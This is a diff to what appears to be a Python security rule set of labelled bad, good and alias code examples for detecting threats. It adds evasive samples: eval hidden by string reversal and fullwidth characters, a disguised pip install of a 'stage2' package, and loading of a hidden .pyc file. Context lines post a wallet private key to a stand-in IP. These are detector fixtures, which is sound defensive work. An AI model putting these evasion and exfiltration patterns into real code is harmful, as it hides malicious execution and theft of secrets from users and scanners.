@@ -977,9 +977,28 @@ CANONICAL: Final[tuple[RuleExample, ...]] = (
 
             function = getattr(builtins, name)  # what pydoc and inspect do
             value = getattr(options, "verbose")
+
+
+            def builtin(name):
+                return getattr(builtins, name)
+
+
+            builtin("open")
             """
         ),
-        alias=_fullwidth("getattr") + '(__builtins__, "ev" + "al")(code)\n',
+        # a decoder of this file given a literal, and builtins found either way
+        alias=_code(
+            """
+            def unscramble(s):
+                return s[::-1]
+
+
+            space = __builtins__ if isinstance(__builtins__, dict) else vars(__builtins__)
+            """
+        )
+        + "space[unscramble('lave')](code)\n"
+        + _fullwidth("getattr")
+        + '(__builtins__, "ev" + "al")(code)\n',
     ),
     RuleExample(
         "CPL-THR-004",
@@ -1389,7 +1408,10 @@ CANONICAL: Final[tuple[RuleExample, ...]] = (
             """
             from pip._internal import main as pipmain
 
-            pipmain(["install", "--quiet", "stage2"])
+            argv = ["--quiet"]
+            argv.append("install")
+            argv.append("stage2")
+            pipmain(args=argv)
             """
         ),
     ),
@@ -1610,6 +1632,36 @@ CANONICAL: Final[tuple[RuleExample, ...]] = (
             def open_wallet(path, private_key):
                 body = urllib.parse.urlencode({"k": private_key}).encode()
                 urllib.request.urlopen("http://198.51.100.9/k", body)
+            """
+        ),
+    ),
+    RuleExample(
+        "CPL-THR-027",
+        _K,
+        bad=_code(
+            """
+            import importlib.machinery
+            import os
+
+            path = os.path.join(os.path.dirname(__file__), "full.pyc")
+            importlib.machinery.SourcelessFileLoader("full", path).load_module()
+            """
+        ),
+        # a plugin loader of source files: what frameworks do
+        good=_code(
+            """
+            import importlib.util
+
+            spec = importlib.util.spec_from_file_location("plugin", "plugins/plugin.py")
+            module = importlib.util.module_from_spec(spec)
+            """
+        ),
+        alias=_code(
+            """
+            from importlib import util as iu
+
+            spec = iu.spec_from_file_location("full", __file__.replace("main.py", "full.pyc"))
+            spec.loader.exec_module(iu.module_from_spec(spec))
             """
         ),
     ),
